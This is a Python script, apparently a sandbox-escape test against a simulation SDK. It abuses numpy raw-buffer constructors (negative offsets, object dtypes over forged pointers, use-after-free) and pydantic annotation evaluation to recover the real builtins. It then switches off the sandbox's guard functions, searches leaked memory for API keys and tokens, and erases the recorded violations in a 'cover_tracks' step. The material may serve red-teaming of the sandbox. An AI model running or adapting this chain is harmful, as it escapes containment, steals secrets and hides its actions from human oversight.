# expect: runtime
# numpy's array constructor over a raw buffer: a negative offset reads and writes before the buffer; an object dtype
# turns bytes into object pointers (fake a bytearray spanning memory, read a trusted function's builtins pointer:
# the real builtins); frombuffer / view / as_strided / structured dtypes with objects; resize(refcheck=False) leaves
# a view on freed memory. Each spelling is tried; what it reads is hunted for secrets.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


hits = []
buffer = bytearray(b'B' * 64)
# out of bounds, before the buffer (the heap of the child)
below = note('negative offset read', lambda: bytes(np.ndarray((1024,), dtype=np.uint8, buffer=buffer, offset=-1024).tolist()))
if below:
    loot['negative offset read'] = 'GOT %d bytes before the buffer' % len(below)
    for needle in ('s' + 'k-', 'KEY' + '=', 'TO' + 'KEN'):
        if needle.encode() in below:
            hits.append(needle)
    view = np.ndarray((16,), dtype=np.uint8, buffer=buffer, offset=-16)
    note('negative offset write (same bytes back)', lambda: np.copyto(view, view.copy()))
note('negative offset uint64', lambda: np.ndarray((2,), dtype=np.uint64, buffer=buffer, offset=-64).tolist())
note('frombuffer negative', lambda: np.frombuffer(buffer, dtype=np.uint8, offset=-8).tolist())
note('frombuffer object', lambda: np.frombuffer(buffer, dtype=object).tolist())
note('object dtype NULLs', lambda: np.ndarray((2,), dtype=object, buffer=bytearray(16)).tolist())
note('object dtype own list', lambda: np.ndarray((1,), dtype='O', buffer=bytearray(id(hits).to_bytes(8, 'little')))[0] is hits)
real = note('builtins via numpy object dtype', builtins_via_numpy)
child = None
if isinstance(real, dict) and '__import__' in real:
    loot['builtins via numpy object dtype'] = 'GOT dict of %d' % len(real)
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    tricks = real['__import__']('sys').modules.get('numpy.lib.stride_tricks')
    if tricks is not None:
        note('as_strided past the end', lambda: tricks.as_strided(np.zeros(2), shape=(8,), strides=(8,)).tolist()[2:])
note('view as object', lambda: np.zeros(4).view(object).tolist())
note('view as structured object', lambda: np.zeros(4).view(np.dtype([('o', 'O')])).tolist())
note('structured object over buffer', lambda: np.ndarray((1,), dtype=np.dtype([('o', 'O')]), buffer=bytearray(8)).tolist())
note('strides past the buffer', lambda: np.ndarray((64,), dtype=np.uint8, buffer=buffer, strides=(4096,)).tolist())


def use_after_free():
    a = np.zeros(4096, dtype=np.uint8)
    stale = a[:]
    a.resize(1 << 16, refcheck=False)
    return stale[:16].tolist()


note('resize use after free (read)', use_after_free)
if real is not None and child is not None:
    cover_tracks(real, child)
raise RuntimeError('numpy buffers: hits=' + repr(hits) + ' ' + report())
